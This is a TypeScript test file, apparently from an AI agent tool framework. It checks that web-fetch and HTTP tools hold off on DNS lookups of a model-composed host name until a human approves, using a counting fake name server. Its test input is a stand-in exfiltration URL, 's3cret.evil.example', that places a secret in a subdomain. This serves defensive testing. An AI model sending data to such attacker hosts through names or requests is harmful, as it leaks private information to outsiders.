/** A host name that the model composed is not resolved before an approval: the owner of the name would see it. */
import { type Call, Dispatcher, Gate, Ledger, type Provenance, Redaction } from "@bough/dispatch"
import { Network } from "@bough/network"
import { HttpGet, HttpRequest, WebFetch } from "@bough/pack-web"
import { Policy } from "@bough/policy"
import { Session } from "@bough/protocol"
import { type Tool, ToolContext } from "@bough/tool"
import { assert, describe, it } from "@effect/vitest"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Semaphore from "effect/Semaphore"
import { createSocket } from "node:dgram"

/** A name server that knows no name, its address, and the number of queries. */
const nameServer = Effect.map(
  Effect.acquireRelease(
    Effect.promise(
      () =>
        new Promise<{ readonly address: string; readonly asked: () => number; readonly close: () => void }>(
          (resolve) => {
            let askCount = 0
            const socket = createSocket("udp4")
            socket.on("message", (question, from) => {
              askCount += 1
              const answer = Buffer.from(question)
              // A response, recursion available, no such name.
              answer.writeUInt16BE(0x8183, 2)
              socket.send(answer, from.port, from.address)
            })
            socket.bind(0, "127.0.0.1", () =>
              resolve({
                address: `127.0.0.1:${socket.address().port}`,
                asked: () => askCount,
                close: () => void socket.close()
              })
            )
          }
        )
    ),
    ({ close }) => Effect.sync(close)
  ),
  ({ address, asked }) => ({ address, asked })
)

const sessionId = Session.SessionId.make("session")
const nothingGiven: Provenance.Provenance = {
  isGivenAddress: () => false,
  isAgreedHost: () => false,
  isGivenText: () => false,
  sourcesOf: () => ""
}

const gate = (approves: boolean, seen: () => void): Gate.Gate["Service"] => ({
  ask: (call, preview, { reason }) =>
    Effect.sync((): Call.Verdict => {
      seen()
      const request = Gate.requestOf(call, {
        approvalId: Session.ApprovalId.make("approval"),
        sessionPath: [sessionId],
        preview,
        reason,
        askedAtMillis: 0,
        expiresAtMillis: 1
      })
      return approves
        ? { _tag: "Approved", request, decision: { _tag: "Approved", rule: null }, principal: "ada" }
        : { _tag: "Denied", request, decision: { _tag: "Denied", words: null }, principal: "ada" }
    }),
  lapse: () => Effect.void
})

const ledger: Ledger.Ledger["Service"] = {
  started: () => Effect.void,
  secure: Effect.void,
  ended: () => Effect.void,
  spill: () => Effect.succeed("")
}

/** The number of queries when the approval was requested, and at the end. */
const lookupsOf = Effect.fnUntraced(function* (tool: Tool.Any, parameters: unknown, approves: boolean) {
  const server = yield* nameServer
  const network = Network.make({ nameServers: [server.address] })
  const context = Network.provideWrites(Network.provideReads(ToolContext.empty("Main"), network), network)
  const before: Array<number> = []
  const toolCallId = Session.ToolCallId.make("call")
  yield* Dispatcher.dispatch(
    {
      toolCallId,
      name: tool.name,
      arguments: JSON.stringify(parameters),
      labels: ["private", "untrusted"],
      prior: null
    },
    {
      registry: new Map([[tool.name, tool]]),
      context,
      policy: Policy.defaults,
      redaction: Redaction.make([]),
      provenance: nothingGiven,
      invocation: {
        sessionId,
        sessionPath: [sessionId],
        agent: "test",
        user: null,
        turn: 1,
        step: 1,
        workspaceRoot: "/nowhere",
        config: {}
      },
      permits: Semaphore.makeUnsafe(1),
      observe: () => Effect.void
    }
  ).pipe(
    Effect.provideContext(
      Context.make(
        Gate.Gate,
        gate(approves, () => {
          before.push(server.asked())
        })
      ).pipe(Context.add(Ledger.Ledger, ledger))
    )
  )
  return { before: before[0], after: server.asked() }
})

const url = "https://s3cret.evil.example/"
const calls = [
  [WebFetch, { url }],
  [HttpGet, { url }],
  [HttpRequest, { method: "POST", url, body: "x" }]
] as ReadonlyArray<readonly [Tool.Any, unknown]>

describe("resolving names", () => {
  it.live.each(calls)("waits for an approval, and does not happen if that is denied: %#", ([tool, given]) =>
    Effect.scoped(
      Effect.gen(function* () {
        assert.deepStrictEqual(yield* lookupsOf(tool, given, false), { before: 0, after: 0 })
        const agreed = yield* lookupsOf(tool, given, true)
        assert.strictEqual(agreed.before, 0)
        assert.isAbove(agreed.after, 0)
      })
    )
  )
})
